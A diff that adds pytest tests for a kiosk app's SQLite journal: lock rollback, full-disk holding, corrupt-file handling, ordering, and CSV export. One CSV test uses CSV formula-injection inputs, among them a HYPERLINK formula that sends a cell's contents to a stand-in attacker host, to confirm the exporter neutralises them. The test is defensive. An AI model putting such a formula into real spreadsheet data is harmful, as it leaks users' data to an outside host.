@@ -8,6 +8,8 @@ import sqlite3
 from datetime import timedelta
 
 import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 
 from kiosk.errors import JournalError
 from kiosk.journal import Journal, iso, write_csv
@@ -171,6 +173,32 @@ def test_events_since_and_csv_export(journal, clock):
     assert rows[0]["passed"] == ""
 
 
+def _spreadsheet_cells(line: str, separator: str) -> list[str]:
+    """A CSV line as a spreadsheet splits it: at `separator` outside double quotes, quotes then removed."""
+    cells, cell, quoted = [], "", False
+    for c in line:
+        if c == '"':
+            quoted = not quoted
+        elif c == separator and not quoted:
+            cells.append(cell)
+            cell = ""
+        else:
+            cell += c
+    return [*cells, cell]
+
+
+@pytest.mark.parametrize("separator", [",", ";"])
+def test_no_exported_cell_starts_a_formula_whatever_the_spreadsheets_separator(journal, clock, separator):
+    for raw in ('x;=HYPERLINK("http://evil.example/?"&A1)', "y,-2+3", "=1+1", "z;@SUM(1)", "plain"):
+        add(journal, clock(), raw=raw)
+    out = io.StringIO()
+    write_csv(journal.events(), out)
+    lines = out.getvalue().splitlines()
+    cells = [cell for line in lines[1:] for cell in _spreadsheet_cells(line, separator)]
+    assert cells and not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert lines[0].startswith("id,at,")  # the header as `kiosk replay` knows it
+
+
 def test_unwritable_journal_is_a_journal_error(tmp_path):
     (tmp_path / "dir.sqlite").mkdir()
     with pytest.raises(JournalError):
@@ -195,3 +223,186 @@ def test_passage_answer_landing_during_an_upload_is_reported_again(tmp_path):
     assert [(e["id"], e["passed"]) for e in again] == [(event, True)]
     journal.mark_sent([event], at)
     assert reader.pending(500) == [] and journal.counts()["sent"] == 1
+
+
+# -- a journal that cannot be written: locked, full, damaged --------------------------------
+
+@pytest.fixture
+def write_lock(tmp_path):
+    """Another connection holding the journal's write lock (BEGIN IMMEDIATE) until released."""
+    other = sqlite3.connect(tmp_path / "journal.sqlite", isolation_level=None)
+
+    class Lock:
+        def take(self) -> None:
+            other.execute("BEGIN IMMEDIATE")
+
+        def release(self) -> None:
+            other.execute("ROLLBACK")
+
+    yield Lock()
+    other.close()
+
+
+def visible_ids(tmp_path) -> set[str]:
+    """The ids another connection sees: only what was committed."""
+    other = sqlite3.connect(tmp_path / "journal.sqlite")
+    try:
+        return {r[0] for r in other.execute("SELECT id FROM events")}
+    finally:
+        other.close()
+
+
+@pytest.mark.parametrize("write", [
+    lambda j, ids, at: j.mark_sent(ids, at),
+    lambda j, ids, at: j.isolate(ids[0], "bad"),
+    lambda j, ids, at: j.purge(at),
+], ids=["mark_sent", "isolate", "purge"])
+def test_a_failed_write_rolls_back_and_the_connection_stays_usable(journal, clock, tmp_path, write_lock, write):
+    a, b = add(journal, clock()), add(journal, clock())
+    write_lock.take()
+    with pytest.raises(JournalError, match="database is locked"):
+        write(journal, [a, b], clock())
+    assert not journal.db.in_transaction  # the old code left it inside its BEGIN
+    write_lock.release()
+    c = add(journal, clock())
+    assert visible_ids(tmp_path) == {a, b, c}  # not an id that only this connection sees
+    assert journal.mark_sent([a, b, c], clock()) == 3  # and later writes work without a restart
+    assert journal.counts()["sent"] == 3
+
+
+def test_a_failed_mark_sent_is_not_reported_as_done(journal, clock, write_lock):
+    a = add(journal, clock())
+    write_lock.take()
+    with pytest.raises(JournalError):
+        journal.mark_sent([a], clock())
+    write_lock.release()
+    assert [e["id"] for e in journal.pending()] == [a]  # still to be reported
+    assert journal.counts()["pending"] == 1
+
+
+def test_appends_while_locked_are_held_in_order_and_written_on_release(journal, clock, tmp_path, write_lock, caplog):
+    first = add(journal, clock())
+    write_lock.take()
+    held = [add(journal, clock() + timedelta(seconds=i)) for i in range(1, 4)]
+    assert journal.held == 3 and "locked" in journal.problem
+    assert visible_ids(tmp_path) == {first}
+    journal.set_passed(held[1], True)  # a passage for a held event travels with it
+    write_lock.release()
+    journal._retry_at = 0  # don't wait for the retry interval
+    assert journal.flush()
+    assert journal.held == 0 and journal.problem is None
+    assert [e["id"] for e in journal.events()] == [first, *held]
+    assert [e["passed"] for e in journal.events()] == [None, None, True, None]
+    assert journal.counts() == {"total": 4, "pending": 4, "sent": 0, "isolated": 0}
+    assert "wrote 3 held decisions" in caplog.text
+
+
+def test_a_full_disk_holds_decisions_and_journalling_resumes_when_space_returns(journal, clock, tmp_path):
+    # SQLITE_FULL for real: the file may not grow past the pages it has now.
+    pages = journal.db.execute("PRAGMA page_count").fetchone()[0]
+    journal.db.execute(f"PRAGMA max_page_count={pages}")
+    ids = [add(journal, clock(), raw="x" * 200 + str(i)) for i in range(40)]
+    assert journal.held > 0 and "full" in journal.problem
+    written_while_full = visible_ids(tmp_path)
+    assert written_while_full < set(ids)
+    journal.flush()  # still full: nothing lost, still held
+    assert journal.held == len(ids) - len(written_while_full)
+    journal.db.execute("PRAGMA max_page_count=1073741823")  # space returns
+    journal._retry_at = 0
+    assert journal.flush()
+    assert [e["id"] for e in journal.events()] == ids
+    assert journal.lost == 0 and journal.problem is None
+
+
+def test_held_decisions_are_bounded_and_the_overflow_is_counted_lost(tmp_path, clock, write_lock, caplog):
+    journal = Journal(tmp_path / "journal.sqlite", hold_max=5)
+    try:
+        write_lock.take()
+        ids = [add(journal, clock()) for _ in range(8)]
+        assert journal.held == 5 and journal.lost == 3
+        assert "decisions LOST" in caplog.text
+        write_lock.release()
+        journal._retry_at = 0
+        journal.flush()
+        assert [e["id"] for e in journal.events()] == ids[3:]  # the newest kept, the oldest counted
+    finally:
+        journal.close()
+
+
+def test_close_writes_what_is_held(tmp_path, clock, write_lock):
+    journal = Journal(tmp_path / "journal.sqlite")
+    write_lock.take()
+    event = add(journal, clock())
+    write_lock.release()
+    journal.close()
+    assert visible_ids(tmp_path) == {event}
+
+
+def test_a_damaged_journal_is_moved_aside_whole_and_a_new_one_started(tmp_path, clock, caplog):
+    path = tmp_path / "journal.sqlite"
+    path.write_bytes(b"not a database, a bad SD card" * 200)
+    damaged = path.read_bytes()
+    journal = Journal(path)
+    try:
+        aside = journal.moved_aside
+        assert aside is not None and aside.name.startswith("journal.sqlite.corrupt-")
+        assert aside.read_bytes() == damaged  # kept whole, never deleted
+        assert str(path) in caplog.text and str(aside) in caplog.text  # the log line names both files
+        event = add(journal, clock())
+        assert visible_ids(tmp_path) == {event}
+    finally:
+        journal.close()
+
+
+def test_a_journal_damaged_past_its_header_is_moved_aside_at_the_first_write_and_the_scan_kept(tmp_path, clock):
+    path = tmp_path / "journal.sqlite"
+    journal = Journal(path)
+    for _ in range(30):
+        add(journal, clock(), raw="y" * 200)
+    journal.close()
+    data = bytearray(path.read_bytes())
+    data[1024:] = b"\xa5" * (len(data) - 1024)  # every page but the header: it opens, then fails to write
+    path.write_bytes(bytes(data))
+    journal = Journal(path)
+    try:
+        assert journal.moved_aside is None
+        event = add(journal, clock())
+        assert journal.moved_aside is not None and journal.moved_aside.read_bytes() == bytes(data)
+        assert [e["id"] for e in journal.events()] == [event]
+    finally:
+        journal.close()
+
+
+@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(ops=st.lists(st.sampled_from(["append", "append", "append", "fill", "free", "flush", "pass"]), max_size=60))
+def test_whatever_the_disk_does_every_decision_is_written_once_in_order(tmp_path_factory, clock, monkeypatch, ops):
+    """Any sequence of appends, passage answers, a disk filling up and freeing, and retries: once there is
+    space again, the journal holds every decision exactly once, in the order made, with its last answer."""
+    import kiosk.journal as journal_module
+
+    monkeypatch.setattr(journal_module, "RETRY_S", 0.0)  # retry at every call; the interval is not the point
+    journal = Journal(tmp_path_factory.mktemp("j") / "journal.sqlite")
+    try:
+        made: list[str] = []
+        passed: dict[str, bool] = {}
+        for op in ops:
+            if op == "append":
+                made.append(add(journal, clock(), raw="z" * 300 + str(len(made))))
+            elif op == "fill":
+                pages = journal.db.execute("PRAGMA page_count").fetchone()[0]
+                journal.db.execute(f"PRAGMA max_page_count={pages}")
+            elif op == "free":
+                journal.db.execute("PRAGMA max_page_count=1073741823")
+            elif op == "flush":
+                journal.flush()
+            elif made:
+                passed[made[-1]] = len(passed) % 2 == 0
+                journal.set_passed(made[-1], passed[made[-1]])
+        journal.db.execute("PRAGMA max_page_count=1073741823")
+        assert journal.flush()
+        events = list(journal.events())
+        assert [e["id"] for e in events] == made
+        assert {e["id"]: e["passed"] for e in events if e["passed"] is not None} == passed
+        assert journal.lost == 0 and journal.problem is None and not journal.db.in_transaction
+    finally:
+        journal.close()
